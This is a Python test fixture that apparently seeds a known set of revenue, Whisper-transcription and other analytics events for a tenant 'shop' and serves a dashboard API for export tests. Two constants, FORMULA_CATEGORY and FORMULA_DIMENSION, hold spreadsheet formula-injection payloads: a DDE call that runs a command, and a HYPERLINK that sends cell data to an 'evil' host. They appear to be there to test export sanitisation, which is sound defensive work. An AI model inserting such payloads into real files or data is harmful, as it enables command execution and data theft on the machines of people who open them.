"""A small known event set for revenue, audio and export: tenant `shop` (zone UTC) beside the views data.

Conversions in USD, EUR and GBP, with and without feature and category, in the last 7 days, in the 7
before and before both; Whisper calls of two weeks; custom, feedback, tool and product events holding
every other contract field, some hostile (formulas a spreadsheet would run). `shop_views(tmp_path)`
stores it with the worker's own code next to `tests.viewsdata`'s set and serves the views API over real
HTTP: the clock is `viewsdata.NOW`, Wednesday 2026-03-18 15:30 UTC (the week began Monday 03-16).
"""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx

from schemas.tenancy import TenantRecord, tenant_record_key
from tests.live import free_port, serve
from tests.viewsdata import NOW, Views, _key, load, views

TENANT = "shop"
FORMULA_CATEGORY = "=cmd|' /C calc'!A0"
FORMULA_DIMENSION = '=HYPERLINK("http://evil/?"&A1)'


def at(day: int, hour: int = 12, minute: int = 0) -> datetime:
    return datetime(2026, 3, day, hour, minute, tzinfo=UTC)


def _ev(key: str, kind: str, ts: datetime, **fields: Any) -> dict[str, Any]:
    event_id = str(uuid.uuid5(uuid.NAMESPACE_URL, f"tallystream-shop-{key}"))
    return {"event_id": event_id, "type": kind, "tenant_id": TENANT, "timestamp": ts.isoformat(), **fields}


def _conversion(key: str, ts: datetime, revenue: str, currency: str, **fields: Any) -> dict[str, Any]:
    return _ev(key, "conversion", ts, order_id=f"o-{key}", revenue=revenue, currency=currency, **fields)


def _call(key: str, ts: datetime, provider: str, model: str, **fields: Any) -> dict[str, Any]:
    return _ev(key, "llm_call", ts, provider=provider, model=model, latency_ms=900, **fields)


EVENTS: dict[str, dict[str, Any]] = {
    # the last 7 days (2026-03-12 .. 03-18)
    "c1": _conversion(
        "c1",
        at(17, 9),
        "129.90",
        "USD",
        feature="chat",
        category="pumps",
        session_id="s-1",
        attributed_session_id="s-0",
    ),
    "c2": _conversion("c2", at(16), "20.10", "USD", feature="chat", category="filters"),
    "c3": _conversion("c3", at(18, 10), "50.00", "USD", feature="search", category="pumps"),
    "c4": _conversion("c4", at(13), "9.99", "USD"),  # neither feature nor category (as stored before categories)
    "c5": _conversion("c5", at(17, 12), "100.00", "EUR", feature="chat", category="pumps"),
    "c6": _conversion("c6", at(12, 0), "0.01", "EUR", feature="search", category="gauges"),  # the first instant
    # the 7 days before (03-05 .. 03-11), and before both
    "c7": _conversion("c7", at(10), "100.00", "USD", feature="chat", category="pumps"),
    "c8": _conversion("c8", at(6), "42.00", "GBP"),
    "c9": _conversion("c9", at(4, 23, 59), "1000.00", "USD", feature="chat", category="pumps"),
    # Whisper minutes: 1.5 + 0.75 this week (Monday 03-16), 0.5 the week before
    "w1": _call("w1", at(17, 10), "groq", "whisper-large-v3", operation="transcription", audio_seconds=90),
    "w2": _call("w2", at(16, 8), "groq", "whisper-large-v3", operation="transcription", audio_seconds=45),
    "w3": _call("w3", at(10, 8), "openai", "whisper-1", operation="transcription", audio_seconds=30),
    "g1": _call("g1", at(17, 12, 30), "openai", "gpt-4o-mini", input_tokens=1000, output_tokens=200),
    # every other contract field
    "k1": _ev(
        "k1",
        "custom",
        at(17, 11),
        name="site.built",
        dimensions={"status": "failed", "site_type": FORMULA_DIMENSION},
        measures={"duration_s": 12.5, "pages": 3},
        properties={"plan": "pro"},
        end_user_id="u-9",
        domain="shop.test",
    ),
    "f1": _ev("f1", "feedback", at(17, 13), rating=4, comment_chars=120, session_id="s-1"),
    "t1": _ev("t1", "tool_call", at(17, 13, 30), tool_name="lookup", status="error", error_type="Timeout"),
    "p1": _ev("p1", "product_event", at(17, 14), action="clicked", product_id="SKU-1", category=FORMULA_CATEGORY),
}
MARCH_17 = ("c1", "w1", "k1", "c5", "g1", "f1", "t1", "p1")
"""The events of 2026-03-17, in time order."""


@dataclass
class Shop:
    views: Views
    url: str
    """The views API served over real HTTP."""
    headers: dict[str, str]
    """A read key of `shop`."""

    async def get(self, path: str, status: int = 200) -> httpx.Response:
        async with httpx.AsyncClient(base_url=self.url, timeout=60) as client:
            response = await client.get(f"/api/dashboard/{TENANT}{path}", headers=self.headers)
        assert response.status_code == status, (path, response.text)
        return response


@asynccontextmanager
async def shop_views(tmp_path: Path) -> AsyncIterator[Shop]:
    async with views(tmp_path) as v:
        record = TenantRecord(tenant_id=TENANT, name="Shop", created_at=NOW - timedelta(days=60), timezone="UTC")
        v.directory.apply(tenant_record_key(TENANT), record.model_dump_json().encode())
        key = _key(v.directory, TENANT, "read")
        await load(v.warehouse, list(EVENTS.values()), partition=1)
        with serve(v.app, free_port()) as url:
            yield Shop(v, url, {"authorization": f"Bearer {key}"})
